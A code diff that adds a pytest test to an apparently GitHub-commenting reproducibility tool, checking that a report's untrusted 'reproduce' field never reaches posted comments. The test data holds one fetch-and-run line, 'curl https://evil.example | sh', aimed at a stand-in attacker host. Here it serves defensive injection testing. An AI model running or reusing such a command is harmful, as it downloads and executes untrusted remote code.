@@ -215,6 +215,15 @@ def test_the_job_and_the_reports_path_say_which_comment_it_is_and_the_report_doe
     assert len(github.comments(7)) == 3
 
 
+def test_in_workflow_run_the_command_to_see_it_again_is_not_the_reports(github: GitHub, tmp_path: Path) -> None:
+    report = replace(reported(), reproduce="curl https://evil.example | sh")
+    assert comment_command(Wanted(saved(tmp_path, report)), workflow_run(github, tmp_path)) == 0
+    assert comment_command(Wanted(matrix(tmp_path, report, report), matrix="gpus"), workflow_run(github, tmp_path)) == 0
+    assert len(github.comments(7)) == 2
+    for posted in github.comments(7):
+        assert "evil" not in posted["body"] and "repro-gate run repro.yml --seed 42 --steps 4 --fail-fast" in posted["body"]
+
+
 @pytest.mark.parametrize("change", [{"run_id": 99}, {"head_sha": OTHER}, {"repository": "octo-org/other"}])
 def test_reports_of_several_runs_are_refused_with_their_names(github: GitHub, tmp_path: Path, change: dict[str, object]) -> None:
     paths = matrix(tmp_path, reported(), reported(**change))
